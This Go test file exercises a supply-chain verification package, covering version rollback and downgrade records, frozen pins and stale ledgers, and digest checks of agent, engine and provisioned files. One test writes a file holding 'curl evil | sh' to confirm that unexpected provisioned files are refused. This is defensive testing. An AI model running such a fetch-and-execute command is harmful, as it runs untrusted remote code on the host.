package verify_test

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/writ-ledger/writ/delegation"
	"github.com/writ-ledger/writ/internal/testkit"
	"github.com/writ-ledger/writ/rules"
	"github.com/writ-ledger/writ/schemas"
	"github.com/writ-ledger/writ/transfer"
	"github.com/writ-ledger/writ/verify"
)

// newerAgent is a second genuine clean build (stripped, so its bytes
// differ) that is pinned as the newer version.
func newerAgent(t *testing.T) string {
	return testkit.BuildAgent(t, testkit.BuildOptions{LDFlags: "-s -w"})
}

// TestRollback: the same genuine older version, re-offered after a newer
// one was admitted, is refused under rollback, both when it is re-pinned
// and when the newer pin is revoked; a root-signed downgrade record lets
// exactly that version through until it expires; the high-water mark
// never falls.
func TestRollback(t *testing.T) {
	older, newer := agentPath, newerAgent(t)
	w := newWorld(t)
	w.pin(t, older, "agent", "1.0.0")
	v := w.admit(t, verify.ModeEnforce, nil, instr(nil), verify.Dispatch{AgentBinary: older})
	if v.Verdict != verify.Admitted || v.HighWater["agent"] != "v1.0.0" {
		t.Fatalf("v1.0.0: %s / %s, high water %v", v.Verdict, v.Rule, v.HighWater)
	}
	w.pin(t, newer, "agent", "1.1.0")
	newPin := w.lastPin
	v = w.admit(t, verify.ModeEnforce, v.HighWater, instr(nil), verify.Dispatch{AgentBinary: newer})
	if v.Verdict != verify.Admitted || v.HighWater["agent"] != "v1.1.0" {
		t.Fatalf("v1.1.0: %s / %s, high water %v", v.Verdict, v.Rule, v.HighWater)
	}
	hw := v.HighWater

	// The older binary against the newer pin is a plain digest mismatch.
	expect(t, w, hw, instr(nil), verify.Dispatch{AgentBinary: older}, rules.AgentDigestMismatch, refusedAll)

	// A release key re-pins the genuine old version: rollback.
	repinned := newWorld(t)
	repinned.pin(t, newer, "agent", "1.1.0")
	repinned.pin(t, older, "agent", "1.0.0")
	expect(t, repinned, hw, instr(nil), verify.Dispatch{AgentBinary: older}, rules.Rollback, softAll)
	if v := repinned.admit(t, verify.ModeOff, hw, instr(nil), verify.Dispatch{AgentBinary: older}); v.HighWater["agent"] != "v1.1.0" {
		t.Fatalf("an admitted rollback (mode off) lowered the high-water mark: %v", v.HighWater)
	}

	// The newer pin is revoked, so the latest pin is the old one again.
	rev := &schemas.Revocation{V: 1, Target: schemas.SHA256Digest(newPin), Reason: "bad release", IssuedAt: testkit.Epoch.Add(-time.Minute).Unix()}
	w.apply(t, testkit.Seal(t, rev, w.root))
	expect(t, w, hw, instr(nil), verify.Dispatch{AgentBinary: older}, rules.Rollback, softAll)

	// The genuine old bytes pinned again under a higher version are still
	// the old version.
	relabeled := newWorld(t)
	relabeled.pin(t, older, "agent", "1.0.0")
	relabeled.pin(t, newer, "agent", "1.1.0")
	relabeled.pin(t, older, "agent", "1.2.0")
	expect(t, relabeled, hw, instr(nil), verify.Dispatch{AgentBinary: older}, rules.Rollback, softAll)
	if v := relabeled.admit(t, verify.ModeEnforce, hw, instr(nil), verify.Dispatch{AgentBinary: older}); !strings.Contains(v.Reason, "the same bytes were pinned as v1.0.0 at ledger index 3") {
		t.Fatalf("relabel reason: %s", v.Reason)
	}
	relabeled.pin(t, older, "agent", "1.1.0+rebuild")
	expect(t, relabeled, hw, instr(nil), verify.Dispatch{AgentBinary: older}, rules.Rollback, softAll)

	// A downgrade record for another version, or an expired one, does not help.
	down := func(version string, expires time.Time) []byte {
		return testkit.Seal(t, &schemas.Downgrade{V: 1, Artifact: "agent", Version: version, Reason: "v1.1.0 is broken",
			IssuedAt: testkit.Epoch.Add(-time.Minute).Unix(), Expires: expires.Unix()}, w.root)
	}
	w.apply(t, down("v0.9.0", testkit.Epoch.Add(time.Hour)), down("v1.0.0", testkit.Epoch))
	expect(t, w, hw, instr(nil), verify.Dispatch{AgentBinary: older}, rules.Rollback, softAll)

	// The right one does, and the mark stays at v1.1.0.
	w.apply(t, down("v1.0.0", testkit.Epoch.Add(time.Hour)))
	expect(t, w, hw, instr(nil), verify.Dispatch{AgentBinary: older}, rules.OK, admittedAll)
	v = w.admit(t, verify.ModeEnforce, hw, instr(nil), verify.Dispatch{AgentBinary: older})
	if v.HighWater["agent"] != "v1.1.0" || !contains(v.Passed, "downgrade-allowed") {
		t.Fatalf("downgrade: high water %v, passed %v", v.HighWater, v.Passed)
	}
}

func contains(xs []string, x string) bool {
	for _, y := range xs {
		if y == x {
			return true
		}
	}
	return false
}

// TestDowngradeNeedsRootThreshold: a release key cannot sign a downgrade.
func TestDowngradeNeedsRootThreshold(t *testing.T) {
	w := newWorld(t)
	rec := &schemas.Downgrade{V: 1, Artifact: "agent", Version: "v1.0.0", Reason: "r", IssuedAt: testkit.Epoch.Unix(), Expires: testkit.Epoch.Add(time.Hour).Unix()}
	_, err := w.st.Apply(testkit.Seal(t, rec, w.rel), testkit.Epoch)
	var re *delegation.RecordError
	if !errors.As(err, &re) || re.Rule != "threshold-not-met" {
		t.Fatalf("a downgrade signed by a release key: %v", err)
	}
}

// TestFreezes: an expired pin (a frozen release) and a ledger whose newest
// checkpoint is older than the runner's maximum age (a frozen ledger).
func TestFreezes(t *testing.T) {
	w := newWorld(t)
	p, err := transfer.NewPin(agentPath, transfer.PinOptions{Artifact: "agent", Version: "1.0.0", Platform: platform,
		IssuedAt: testkit.Epoch.Add(-time.Hour), Expires: testkit.Epoch})
	if err != nil {
		t.Fatal(err)
	}
	w.apply(t, testkit.Seal(t, p, w.rel))
	expect(t, w, nil, instr(nil), verify.Dispatch{AgentBinary: agentPath}, rules.PinExpired, softAll)

	w = newWorld(t)
	w.pin(t, agentPath, "agent", "1.0.0")

	for _, tc := range []struct {
		name       string
		ledgerTime time.Time
		rule       string
	}{
		{"fresh", testkit.Epoch.Add(-59 * time.Minute), rules.OK},
		{"exactly the maximum age", testkit.Epoch.Add(-time.Hour), rules.OK},
		{"older than the maximum age", testkit.Epoch.Add(-time.Hour - time.Second), rules.StaleLedger},
		{"no signed time", time.Time{}, rules.StaleLedger},
		{"signed within the clock skew ahead", testkit.Epoch.Add(verify.MaxClockSkew), rules.OK},
		{"signed in the future (a fast clock would stay fresh for years)", testkit.Epoch.Add(verify.MaxClockSkew + time.Second), rules.StaleLedger},
	} {
		c := cfg(verify.ModeEnforce)
		c.MaxLedgerAge, c.LedgerTime = time.Hour, tc.ledgerTime
		v := verify.Admit(w.st, c, verify.Dispatch{Raw: testkit.Seal(t, instr(nil), w.op), AgentBinary: agentPath})
		if v.Rule != tc.rule {
			t.Errorf("%s: %s / %s (%s)", tc.name, v.Verdict, v.Rule, v.Reason)
		}
	}
	// A stale ledger in each mode.
	for n, mode := range []verify.Mode{verify.ModeOff, verify.ModeWarn, verify.ModeEnforce} {
		c := cfg(mode)
		c.MaxLedgerAge, c.LedgerTime = time.Hour, testkit.Epoch.Add(-2*time.Hour)
		v := verify.Admit(w.st, c, verify.Dispatch{Raw: testkit.Seal(t, instr(nil), w.op), AgentBinary: agentPath})
		if v.Rule != rules.StaleLedger || v.Verdict != softAll[n] {
			t.Fatalf("stale ledger under %s: %s / %s", mode, v.Verdict, v.Rule)
		}
	}
	assertedRule(rules.StaleLedger)
}

// TestCompareOnReceipt: what the runner receives is hashed here; the
// digest the sender reports is never trusted, and the decision carries
// both digests.
func TestCompareOnReceipt(t *testing.T) {
	w := newWorld(t)
	p := w.pin(t, agentPath, "agent", "1.0.0")
	enginePath := newerAgent(t)
	eng := w.pin(t, enginePath, "engine", "2.0.0")
	dir := t.TempDir()
	oneByte := filepath.Join(dir, "agent")
	b, err := os.ReadFile(agentPath)
	if err != nil {
		t.Fatal(err)
	}
	b[len(b)/2] ^= 0x40
	os.WriteFile(oneByte, b, 0o755)

	// The instruction reports the pinned digest; the bytes differ by one.
	honest := instr(func(i *schemas.Instruction) { i.Agent.Digest = p.Digest })
	expect(t, w, nil, honest, verify.Dispatch{AgentBinary: oneByte}, rules.AgentDigestMismatch, refusedAll)
	v := w.admit(t, verify.ModeOff, nil, honest, verify.Dispatch{AgentBinary: oneByte})
	d := verify.Decision(v)
	if len(d.Compared) != 1 || d.Compared[0].Expected != p.Digest || d.Compared[0].Actual == p.Digest || !strings.HasPrefix(d.Compared[0].Actual, "sha256:") {
		t.Fatalf("decision evidence %+v", d.Compared)
	}

	// The engine: named, pinned, and swapped on disk for another pinned
	// artifact (the agent).
	withEngine := instr(func(i *schemas.Instruction) { i.Engine = &schemas.ArtifactRef{Name: "engine", Digest: eng.Digest} })
	expect(t, w, nil, withEngine, verify.Dispatch{AgentBinary: agentPath, EngineBinary: enginePath}, rules.OK, admittedAll)
	expect(t, w, nil, withEngine, verify.Dispatch{AgentBinary: agentPath, EngineBinary: agentPath}, rules.EngineDigestMismatch, refusedAll)
	expect(t, w, nil, withEngine, verify.Dispatch{AgentBinary: agentPath}, rules.EngineBinaryMissing, refusedAll)
	wrongDigest := instr(func(i *schemas.Instruction) { i.Engine = &schemas.ArtifactRef{Name: "engine", Digest: p.Digest} })
	expect(t, w, nil, wrongDigest, verify.Dispatch{AgentBinary: agentPath, EngineBinary: enginePath}, rules.EnginePinMismatch, refusedAll)
	unpinned := instr(func(i *schemas.Instruction) { i.Engine = &schemas.ArtifactRef{Name: "engine-x"} })
	expect(t, w, nil, unpinned, verify.Dispatch{AgentBinary: agentPath, EngineBinary: enginePath}, rules.EngineNotPinned, softAll)
	// The runner runs an engine the instruction does not name.
	expect(t, w, nil, instr(nil), verify.Dispatch{AgentBinary: agentPath, EngineBinary: enginePath}, rules.EngineNotNamed, softAll)
	v = w.admit(t, verify.ModeEnforce, nil, withEngine, verify.Dispatch{AgentBinary: agentPath, EngineBinary: enginePath})
	if v.HighWater["engine"] != "v2.0.0" || v.HighWater["agent"] != "v1.0.0" {
		t.Fatalf("high water %v", v.HighWater)
	}

	// Provisioned files.
	prov := filepath.Join(dir, "prov")
	os.Mkdir(prov, 0o755)
	os.WriteFile(filepath.Join(prov, "policy.json"), []byte(`{"allow":[]}`), 0o644)
	withProv := instr(func(i *schemas.Instruction) {
		i.Provision = []schemas.Provision{{Dest: ".provision/policy.json", Digest: schemas.SHA256Digest([]byte(`{"allow":[]}`)), Size: 12}}
	})
	expect(t, w, nil, withProv, verify.Dispatch{AgentBinary: agentPath, ProvisionDir: prov}, rules.OK, admittedAll)
	// A provision digest may be SHA-512 (written by other tooling): it is
	// computed here with SHA-512.
	sha512, _, err := transfer.DigestFileAlg(filepath.Join(prov, "policy.json"), "sha512")
	if err != nil {
		t.Fatal(err)
	}
	with512 := instr(func(i *schemas.Instruction) {
		i.Provision = []schemas.Provision{{Dest: ".provision/policy.json", Digest: sha512, Size: 12}}
	})
	expect(t, w, nil, with512, verify.Dispatch{AgentBinary: agentPath, ProvisionDir: prov}, rules.OK, admittedAll)
	expect(t, w, nil, withProv, verify.Dispatch{AgentBinary: agentPath}, rules.ProvisionMissing, refusedAll)
	// A file the instruction does not name would reach the agent unchecked.
	os.WriteFile(filepath.Join(prov, "extra.sh"), []byte("curl evil | sh"), 0o755)
	expect(t, w, nil, withProv, verify.Dispatch{AgentBinary: agentPath, ProvisionDir: prov}, rules.ProvisionUnexpected, refusedAll)
	expect(t, w, nil, instr(nil), verify.Dispatch{AgentBinary: agentPath, ProvisionDir: prov}, rules.ProvisionUnexpected, refusedAll)
	os.Remove(filepath.Join(prov, "extra.sh"))
	os.WriteFile(filepath.Join(prov, "policy.json"), []byte(`{"allow":["*"]}`), 0o644)
	expect(t, w, nil, withProv, verify.Dispatch{AgentBinary: agentPath, ProvisionDir: prov}, rules.ProvisionMismatch, refusedAll)
	expect(t, w, nil, withProv, verify.Dispatch{AgentBinary: agentPath, ProvisionDir: filepath.Join(dir, "absent")}, rules.ProvisionMissing, refusedAll)
}

// TestUnpinnedStillHashed: with no pin for the artifact, the binary is
// still hashed, and a digest the instruction names is compared in every
// mode: a wrong byte is never admitted, pinned or not.
func TestUnpinnedStillHashed(t *testing.T) {
	w := newWorld(t)
	right, _, err := transfer.DigestFile(agentPath)
	if err != nil {
		t.Fatal(err)
	}
	named := instr(func(i *schemas.Instruction) { i.Agent = schemas.ArtifactRef{Name: "agentx", Digest: right} })
	expect(t, w, nil, named, verify.Dispatch{AgentBinary: agentPath}, rules.AgentNotPinned, softAll)
	script := filepath.Join(t.TempDir(), "evil.sh")
	os.WriteFile(script, []byte("#!/bin/sh\n"), 0o755)
	expect(t, w, nil, named, verify.Dispatch{AgentBinary: script}, rules.AgentDigestMismatch, refusedAll)
	expect(t, w, nil, named, verify.Dispatch{AgentBinary: filepath.Join(t.TempDir(), "absent")}, rules.AgentBinaryMissing, refusedAll)
	v := w.admit(t, verify.ModeOff, nil, named, verify.Dispatch{AgentBinary: script})
	if len(v.Compared) != 1 || v.Compared[0].Expected != right || v.HighWater != nil {
		t.Fatalf("compared %+v, high water %v", v.Compared, v.HighWater)
	}
	engine := instr(func(i *schemas.Instruction) { i.Engine = &schemas.ArtifactRef{Name: "enginex", Digest: right} })
	expect(t, w, nil, engine, verify.Dispatch{AgentBinary: agentPath, EngineBinary: script}, rules.EngineDigestMismatch, refusedAll)
}

// TestManyUnexpectedFiles: a provision directory stuffed with files gives
// one finding, and the decision names each failed rule once, so it can
// still be recorded.
func TestManyUnexpectedFiles(t *testing.T) {
	w := newWorld(t)
	w.pin(t, agentPath, "agent", "1.0.0")
	dir := t.TempDir()
	for i := range 5000 {
		os.WriteFile(filepath.Join(dir, fmt.Sprintf("f%04d", i)), nil, 0o644)
	}
	v := w.admit(t, verify.ModeOff, nil, instr(nil), verify.Dispatch{AgentBinary: agentPath, ProvisionDir: dir})
	if v.Rule != rules.ProvisionUnexpected || len(v.Failed) != 1 || !strings.Contains(v.Reason, "holds 5000 entries") || !strings.Contains(v.Reason, "and 4992 more") {
		t.Fatalf("%s / %s (%s), %d findings", v.Verdict, v.Rule, v.Reason, len(v.Failed))
	}
	d := verify.Decision(v)
	if err := d.Validate(); err != nil {
		t.Fatal(err)
	}
	if b, err := schemas.Encode(d); err != nil || len(b) > schemas.MaxRecordSize {
		t.Fatalf("decision: %d bytes, %v", len(b), err)
	}
}
